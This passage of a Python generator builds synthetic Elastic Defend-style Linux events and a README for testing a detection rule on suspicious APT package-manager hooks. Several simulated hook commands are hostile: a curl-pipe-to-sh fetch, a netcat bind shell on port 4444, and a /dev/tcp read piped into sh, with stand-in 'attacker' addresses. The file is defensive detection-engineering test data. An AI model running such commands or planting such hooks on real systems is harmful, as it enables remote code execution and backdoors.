                 "do this); 0.3 s apart, public address")
    shx, d.ids["shell_exec"] = hook("H4", apt4b, 82.000, "curl -fsSL http://45.33.32.156/x.sh | sh")
    cux, d.ids["curl_exec"] = w.spawn(H4, shx, 82.006, "curl", "/usr/bin/curl",
                                      ["curl", "-fsSL", "http://45.33.32.156/x.sh"])
    d.ids["curl_connect_on_H1"] = w.connect(cux, 82.301, "45.33.32.156", 80, host=H1, src_ip=H1.ips[0])
    w.end(cux, 82.590)
    w.end(shx, 82.640)
    sc.append(d)

    # ===== H1: bind shell (connection_accepted); destination.ip missing =============================================
    apt1b = sudo_apt("H1", bash1, 85.000, ["apt", "update"])
    d = Scenario("connection_accepted_bind_shell", "decoy", "H1",
                 "hook starts a bind shell `nc.traditional -lvnp 4444 -e /bin/sh`; 1.2 s later nc accepts a "
                 "connection from "
                 "45.33.32.156: event.action is connection_accepted (direction ingress), not connection_attempted")
    shb, d.ids["shell_exec"] = hook("H1", apt1b, 85.300, "nohup nc.traditional -lvnp 4444 -e /bin/sh >/dev/null 2>&1 &")
    nc, d.ids["nc_exec"] = w.spawn(H1, shb, 85.305, "nc.traditional", "/usr/bin/nc.traditional",
                                   ["nc.traditional", "-lvnp", "4444", "-e", "/bin/sh"])
    w.end(shb, 85.309)
    d.ids["nc_accept"] = w.connect(nc, 86.512, None, 4444, action="connection_accepted", src_ip="45.33.32.156")
    sc.append(d)
    f = Scenario("destination_ip_missing", "filtered_by_current_version", "H1",
                 "synthetic: the child's connection_attempted event has destination.port but no destination.ip. "
                 "Seed query: a sequence (no condition on the destination). Current query: excluded by "
                 "`destination.ip == null`")
    shm, f.ids["shell_exec"] = hook("H1", apt1b, 88.100, "curl -fsS -m 3 http://updates.example.net/ping")
    cum, _ = w.spawn(H1, shm, 88.104, "curl", "/usr/bin/curl", ["curl", "-fsS", "-m", "3",
                                                               "http://updates.example.net/ping"])
    f.ids["curl_connect"] = w.connect(cum, 88.260, None, 80)
    w.end(cum, 88.390)
    f.seed_match = (f.ids["shell_exec"], f.ids["curl_connect"])
    f.join_key = shm.entity_id
    sc.append(f)

    # ===== H2: the shell connects itself; args "/usr/bin/apt-listbugs apt"; fe80:: ===================================
    apt2d = sudo_apt("H2", bash2, 92.000, ["apt", "update"])
    d = Scenario("network_by_shell_itself", "decoy", "H2",
                 "the hook shell (bash -c, parent apt) opens the socket itself through /dev/tcp: the network event's "
                 "process.entity_id is the shell's, its process.parent.entity_id is apt's, so the join keys differ")
    shs2, d.ids["shell_exec"] = w.spawn(H2, apt2d, 92.300, "bash", "/usr/bin/bash",
                                        ["bash", "-c", "exec 3<>/dev/tcp/45.33.32.156/443; cat <&3 | sh"])
    d.ids["shell_connect"] = w.connect(shs2, 92.331, "45.33.32.156", 443)
    sc.append(d)
    f = Scenario("apt_listbugs_args", "filtered_by_current_version", "H2",
                 "hook shell with args [\"/bin/sh\", \"-c\", \"/usr/bin/apt-listbugs apt\"] whose child, reported as "
                 "the ruby interpreter (/usr/bin/ruby3.1), connects to a public address. Seed query: a sequence. "
                 "Current query: excluded by `not process.args == \"/usr/bin/apt-listbugs apt\"` on the shell")
    shl2, f.ids["shell_exec"] = hook("H2", apt2d, 94.600, "/usr/bin/apt-listbugs apt")
    rb, f.ids["ruby_exec"] = w.spawn(H2, shl2, 94.604, "ruby3.1", "/usr/bin/ruby3.1",
                                     ["/usr/bin/ruby", "/usr/bin/apt-listbugs", "apt"])
    f.ids["ruby_connect"] = w.connect(rb, 95.402, "130.89.148.77", 443)
    w.end(rb, 96.700)
    w.end(shl2, 96.703)
    f.seed_match = (f.ids["shell_exec"], f.ids["ruby_connect"])
    f.join_key = shl2.entity_id
    sc.append(f)
    f = Scenario("private_destination_fe80", "filtered_by_current_version", "H2",
                 "hook whose curl reaches a router's link-local IPv6 address fe80::1 (FE80::/10)")
    shf, f.ids["shell_exec"] = hook("H2", apt2d, 97.200, "curl -fsS -g 'http://[fe80::1%ens5]:8080/apt-ran' || true")
    cuf, _ = w.spawn(H2, shf, 97.204, "curl", "/usr/bin/curl",
                     ["curl", "-fsS", "-g", "http://[fe80::1%ens5]:8080/apt-ran"])
    f.ids["curl_connect"] = w.connect(cuf, 97.301, "fe80::1", 8080)
    w.end(cuf, 97.330)
    f.seed_match = (f.ids["shell_exec"], f.ids["curl_connect"])
    f.join_key = shf.entity_id
    sc.append(f)

    # ===== H4, H1, H3: more private destinations =====================================================================
    apt4c = apt4  # same `apt install -y jq` run as no_dash_c_arg
    f = Scenario("private_destination_192_168", "filtered_by_current_version", "H4",
                 "DPkg::Post-Invoke hook pushing a metric to a Prometheus pushgateway at 192.168.40.2:9091")
    sh9, f.ids["shell_exec"] = hook("H4", apt4c, 54.500, "echo apt_last_run $(date +%s) | curl -fsS --data-binary @- "
                                    "http://192.168.40.2:9091/metrics/job/apt/instance/app-staging-04")
    cu9, _ = w.spawn(H4, sh9, 54.506, "curl", "/usr/bin/curl",
                     ["curl", "-fsS", "--data-binary", "@-",
                      "http://192.168.40.2:9091/metrics/job/apt/instance/app-staging-04"])
    f.ids["curl_connect"] = w.connect(cu9, 54.560, "192.168.40.2", 9091)
    w.end(cu9, 101.200)
    f.seed_match = (f.ids["shell_exec"], f.ids["curl_connect"])
    f.join_key = sh9.entity_id
    sc.append(f)

    apt1c = apt1b  # same `apt update` run as the bind shell
    f = Scenario("private_destination_10", "filtered_by_current_version", "H1",
                 "DPkg::Post-Invoke hook notifying an internal webhook at 10.0.5.20:8080")
    sh10, f.ids["shell_exec"] = hook("H1", apt1c, 90.400, "curl -fsS -m 5 -X POST "
                                     "http://10.0.5.20:8080/hooks/apt-run -d host=$(hostname)")
    cu10, _ = w.spawn(H1, sh10, 90.409, "curl", "/usr/bin/curl", ["curl", "-fsS", "-m", "5", "-X", "POST",
                                                                 "http://10.0.5.20:8080/hooks/apt-run", "-d",
                                                                 "host=web-prod-01"])
    f.ids["curl_connect"] = w.connect(cu10, 90.455, "10.0.5.20", 8080)
    w.end(cu10, 107.530)
    f.seed_match = (f.ids["shell_exec"], f.ids["curl_connect"])
    f.join_key = sh10.entity_id
    sc.append(f)

    apt3d = apt3c  # same `apt upgrade -y` run as the python3 and sleep-7 hooks
    f = Scenario("private_destination_localhost", "filtered_by_current_version", "H3",
                 "hook whose curl asks a local exporter at http://localhost:9100: it tries ::1 first (refused), then "
                 "127.0.0.1. Seed query: one sequence, with the ::1 event (the 127.0.0.1 one comes after the key's "
                 "sequence completed). Current query: both filtered (\"::1\", 127.0.0.0/8)")
    shl3, f.ids["shell_exec"] = hook("H3", apt3d, 73.300, "curl -fsS -X POST http://localhost:9100/apt-hook || true")
    cul, _ = w.spawn(H3, shl3, 73.305, "curl", "/usr/bin/curl", ["curl", "-fsS", "-X", "POST",
                                                                 "http://localhost:9100/apt-hook"])
    f.ids["curl_connect_v6"] = w.connect(cul, 73.341, "::1", 9100)
    f.ids["curl_connect_v4"] = w.connect(cul, 73.343, "127.0.0.1", 9100)
    w.end(cul, 110.390)
    f.seed_match = (f.ids["shell_exec"], f.ids["curl_connect_v6"])
    f.join_key = shl3.entity_id
    sc.append(f)
    return w, hosts, sc


# ---- output ---------------------------------------------------------------------------------------------------------


def main() -> None:
    w, hosts, scenarios = build()
    docs = sorted(w.docs, key=lambda d: d[0])
    stamps = [ms for ms, _ in docs]
    assert len(set(stamps)) == len(stamps), "every event needs its own millisecond (no ordering ties across indices)"
    ids = [d["_id"] for _, d in docs]
    assert len(set(ids)) == len(ids)
    by_id = {d["_id"]: d for _, d in docs}
    with open(HERE / "seed_rule.ndjson", "w", encoding="utf-8") as out:
        for _, d in docs:
            out.write(json.dumps(d, ensure_ascii=False, separators=(",", ":")) + "\n")

    def host_id(event_id: str) -> str:
        return by_id[event_id]["_source"]["host"]["id"]

    def seq_entry(s: Scenario, match: tuple[str, str]) -> dict[str, Any]:
        return {"label": s.label, "join_keys": [host_id(match[0]), s.join_key], "events": list(match)}

    def first_ms(s: Scenario, match: tuple[str, str]) -> str:
        return by_id[match[0]]["_source"]["@timestamp"]

    seed_seqs = sorted(((first_ms(s, s.seed_match), s) for s in scenarios if s.seed_match), key=lambda x: x[0])
    cur_seqs = sorted(((first_ms(s, s.current_match), s) for s in scenarios if s.current_match), key=lambda x: x[0])
    expected = {
        "rule_id": RULE_ID,
        "note": "sequences are in response order (by the first event's @timestamp); join_keys are [host.id, "
                "process.entity_id of the shell], one value per `by` field as Elasticsearch returns them",
        "query_source": SEED_SOURCE,
        "sequences": [seq_entry(s, s.seed_match) for _, s in seed_seqs],
        "decoys": {s.label: list(s.ids.values()) for s in scenarios if s.kind == "decoy"},
        "current_version": {
            "query_source": CURRENT_SOURCE,
            "sequences": [seq_entry(s, s.current_match) for _, s in cur_seqs],
            "decoys": {s.label: list(s.ids.values()) for s in scenarios if s.kind == "filtered_by_current_version"},
        },
        "hosts": {k: {"host.id": h.id, "host.name": h.name} for k, h in hosts.items()},
    }
    (HERE / "seed_rule.expected.json").write_text(json.dumps(expected, indent=2) + "\n", encoding="utf-8")
    (HERE / "README.md").write_text(readme(docs, hosts, scenarios, expected, by_id), encoding="utf-8")
    print(f"{len(docs)} events; seed query: {len(expected['sequences'])} sequences; current query: "
          f"{len(expected['current_version']['sequences'])} sequences")


def readme(docs, hosts, scenarios, expected, by_id) -> str:
    cats: dict[str, int] = {}
    for _, d in docs:
        c = d["_source"]["event"]["category"][0]
        cats[c] = cats.get(c, 0) + 1
    first, last = docs[0][1]["_source"]["@timestamp"], docs[-1][1]["_source"]["@timestamp"]
    name_of = {h.id: k for k, h in hosts.items()}

    def ts(i: str) -> str:
        return by_id[i]["_source"]["@timestamp"][11:23]

    def cell(text: str) -> str:
        return text.replace("|", "\\|")

    def ids_cell(s: Scenario) -> str:
        return "<br>".join(f"{role}: `{i}` ({ts(i)})" for role, i in s.ids.items())

    lines = [
        "# Sample events",
        "",
        "Hand-made test data for the engine and the runner. Regenerate with",
        "`.venv/bin/python samples/build_seed_rule.py` (deterministic: same seed, same files).",
        "",
        "## `seed_rule.ndjson` — the seed rule, *Suspicious APT Package Manager Network Connection*",
        "",
        f"{len(docs)} Elastic Defend-like Linux events ({cats.get('process', 0)} process, {cats.get('network', 0)} "
        f"network) from {first} to {last}, one `{{\"_index\", \"_id\", \"_source\"}}` hit per line, in `@timestamp` "
        "order, every timestamp distinct (no ties between the two backing indices). `_index` is the data stream "
        f"backing index: `{INDEX['process']}` or `{INDEX['network']}`.",
        "",
        "Shapes follow Elastic Defend on Linux (and `bench/generate.py`): `event.category`/`event.type` one-element "
        "arrays; `event.action` `fork`/`exec`/`end` for processes and `connection_attempted`/`connection_accepted`/"
        "`disconnect_received` for network; `event.module` `endpoint`, `event.kind` `event`, `event.dataset`, "
        "`event.id`, `event.sequence`, `event.created` (= `@timestamp`), `event.ingested` (seconds, a few seconds "
        "later), `event.agent_id_status`; `agent`, `elastic.agent.id`, `ecs.version`, `data_stream.*`; "
        "`host.{id,name,hostname,architecture,ip[],mac[],os{type,family,name,platform,version,kernel,full,"
        "Ext.variant}}`; "
        "process events carry `process.{entity_id,pid,name,executable,args[],args_count,command_line,"
        "working_directory,start,interactive,user,group,parent{...},group_leader,session_leader,Ext.ancestry}`; "
        "network events carry `source`/`destination` `{address,ip,port}` (`bytes` on disconnects), "
        "`network.{direction,transport,type}` and a short `process` (`entity_id,pid,name,executable,"
        "parent.entity_id,group_leader.entity_id,session_leader.entity_id,Ext.ancestry`), as Defend's network "
        "events do. `process.entity_id` is base64 of `<agent.id>-<pid>-<start>`; a fork and the exec that follows "
        "share it. APT hooks run as `/bin/sh -c <script>`, i.e. process.name `dash` on Debian and Ubuntu. Fork events "
        "are written only for tp1's hook shell and its curl (to show they never match: their action is `fork`, and "
        "the shell's fork event still carries apt's name); elsewhere forks, most `end` events, most `sudo` execs and "
        "the login shells of db-prod-02 and build-03 are left out to keep the file short: a process without an "
        "exec event in the file is one whose exec is not part of the sample.",
        "",
        "Hosts:",
        "",
        "| | host.name | host.id | OS |",
        "|---|---|---|---|",
    ]
    for k, h in hosts.items():
        lines.append(f"| {k} | {h.name} | `{h.id}` | {h.os['full']}, {h.arch} |")
    lines += [
        "",
        "### Two versions of the query",
        "",
        "The seed TOML (`../shared/seed/...`, updated 2024/07/09) has **no filter on the network side**: any "
        "`connection_attempted` by a child of the hook shell completes the sequence. The current rule in "
        "detection-rules (commit 14cf530f, updated 2026/03/24; see `../shared/reference/rules-corpus.md` §5) adds "
        "`not (destination.ip == null or destination.ip == \"0.0.0.0\" or cidrmatch(destination.ip, <private, "
        "loopback, link-local, multicast, documentation ranges...>))`, `not process.executable == "
        "\"/usr/bin/apt-listbugs\"` on the network event and `not process.args == \"/usr/bin/apt-listbugs apt\"` on "
        "the shell. So the private-destination, missing-destination and apt-listbugs cases below **are sequences for "
        "the seed query** and decoys only for the current one. `seed_rule.expected.json` has both answers; "
        "`tests/test_samples.py` checks both (the current query from `../shared/detection-rules`, skipped if absent).",
        "",
        "Join keys: the query is `sequence by host.id ... [process] by process.entity_id [network] by "
        "process.parent.entity_id`, so Elasticsearch returns `join_keys: [host.id, <shell's process.entity_id>]` "
        "(one value per `by` field), not just the host.id.",
        "",
        "### Expected result, seed query (`size` ≥ 10)",
        "",
        "| # | label | host | join_keys | events (process, network) |",
        "|---|---|---|---|---|",
    ]
    for i, s in enumerate(expected["sequences"], 1):
        hk = name_of[s["join_keys"][0]]
        lines.append(f"| {i} | {s['label']} | {hk} | `{s['join_keys'][0]}`, `{s['join_keys'][1][:24]}…` | "
                     f"`{s['events'][0]}`, `{s['events'][1]}` |")
    lines += [
        "",
        "### Expected result, current query",
        "",
        "| # | label | host | events (process, network) |",
        "|---|---|---|---|",
    ]
    for i, s in enumerate(expected["current_version"]["sequences"], 1):
        lines.append(f"| {i} | {s['label']} | {name_of[s['join_keys'][0]]} | `{s['events'][0]}`, "
                     f"`{s['events'][1]}` |")
    lines += [
        "",
        "### Scenarios",
        "",
        "`kind`: **TP** a true positive (one sequence for both queries); **seed only** a sequence for the seed query, "
        "filtered by the current one; **decoy** no sequence for either query; **noise** background. Times are "
        "HH:MM:SS.mmm on 2026-01-15 (UTC).",
        "",
        "| label | kind | host | _ids involved | why it does / doesn't match |",
        "|---|---|---|---|---|",
    ]
    kind_name = {"true_positive": "TP", "filtered_by_current_version": "seed only", "decoy": "decoy", "noise": "noise"}
    order = {"true_positive": 0, "filtered_by_current_version": 1, "decoy": 2, "noise": 3}
    for s in sorted(scenarios, key=lambda s: order[s.kind]):
        lines.append(f"| {s.label} | {kind_name[s.kind]} | {s.host} | {ids_cell(s)} | {cell(s.why)} |")
    lines += [
        "",
        "## `seed_rule.expected.json`",
        "",
        "Labels kept out of the events (no non-ECS fields in `_source`):",
        "",
        "- `rule_id`, `query_source`;",
        "- `sequences`: the seed query's answer, in response order, each `{label, join_keys, events: [process _id, "
        "network _id]}`;",
        "- `decoys`: label → `_id`s that are in no sequence of either query;",
        "- `current_version`: `{query_source, sequences, decoys}` for the current query, where `decoys` are the "
        "\"seed only\" scenarios' `_id`s (in no sequence of the current query);",
        "- `hosts`: H1..H4 → host.id, host.name.",
        "",
        "Some `_id`s are in neither list: background events, and tp2's `probe_connect`/`fetch_connect`, which are "
        "each in the sequence of one query version only.",
        "",
        "## Notes on realism",
        "",
        "- Synthetic on purpose: `wrong_order_network_first` (a child connecting before its parent's exec), "
        "`other_host` (an entity id on another host), `destination_ip_missing` (Defend always fills it), and the exact "
        "5.000 s / 5.001 s timings; the rest are plausible APT hook behaviours (`APT::Update::Pre-Invoke`, "
        "`DPkg::Post-Invoke`, `DPkg::Pre-Install-Pkgs`, dpkg's `post-invoke`, `Dir::Bin::dpkg`).",
        "- Addresses: 45.33.32.156 (scanme.nmap.org) and 185.199.108.133 (GitHub's CDN) stand in for attacker "
        "infrastructure; 91.189.91.81 and 151.101.66.132 for the Ubuntu and Debian mirrors; 130.89.148.77 for the "
        "bug tracker apt-listbugs queries. Avoid the documentation ranges (192.0.2.0/24, 198.51.100.0/24, "
        "203.0.113.0/24) for true positives: the current query filters them.",
        "- Elastic Defend writes finer timestamps (100 ns); these are milliseconds.",
        "",
    ]
    return "\n".join(lines)


if __name__ == "__main__":
    main()
